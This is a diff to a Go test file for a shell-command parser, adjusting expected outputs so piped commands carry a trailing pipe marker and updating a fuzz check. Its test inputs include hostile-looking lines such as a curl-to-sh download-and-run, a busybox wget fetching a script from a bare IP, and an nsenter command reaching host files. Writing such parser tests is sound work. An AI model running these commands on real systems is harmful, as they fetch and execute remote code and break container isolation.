@@ -22,7 +22,7 @@ func TestCommandsOf(t *testing.T) {
 		"/bin/bash -lc /usr/bin/id -u":            "/usr/bin/id -u",
 		"sh -c clear; (bash || ash || sh)":        "clear / bash / ash / sh",
 		"sudo -u www-data env A=b sh -c id":       "id",
-		"timeout 5 curl http://x/a | sh":          "curl http://x/a / sh",
+		"timeout 5 curl http://x/a | sh":          "curl http://x/a / sh |",
 		"timeout -k 2 5 curl -s x":                "curl -s x",
 		"A=1 B=2 make":                            "make",
 		"echo 'a; b' && true":                     "echo a; b / true",
@@ -31,9 +31,10 @@ func TestCommandsOf(t *testing.T) {
 		"nsenter --target 1 --mount -- cat /etc":  "nsenter --target 1 --mount -- cat /etc",
 		"bash":                                    "bash",
 		"busybox wget -qO- http://192.0.2.7/a.sh": "wget -qO- http://192.0.2.7/a.sh",
-		"sudo":  "sudo",
-		";;;|&": "",
-		"sh -c": "sh -c",
+		"sudo":     "sudo",
+		"a|b||c|d": "a / b | / c / d |",
+		";;;|&":    "",
+		"sh -c":    "sh -c",
 	} {
 		var got []string
 		for _, words := range commandsOf(line) {
@@ -101,7 +102,7 @@ func FuzzCommandsOf(f *testing.F) {
 				t.Fatal("a command without a word")
 			}
 			for _, w := range words {
-				for part := range strings.FieldsSeq(w) {
+				for part := range strings.FieldsSeq(strings.TrimSuffix(w, piped)) {
 					if part != "" && !strings.Contains(strings.NewReplacer("'", "", `"`, "").Replace(line), strings.NewReplacer("'", "", `"`, "").Replace(part)) {
 						t.Fatalf("%q is not in %q", part, line)
 					}
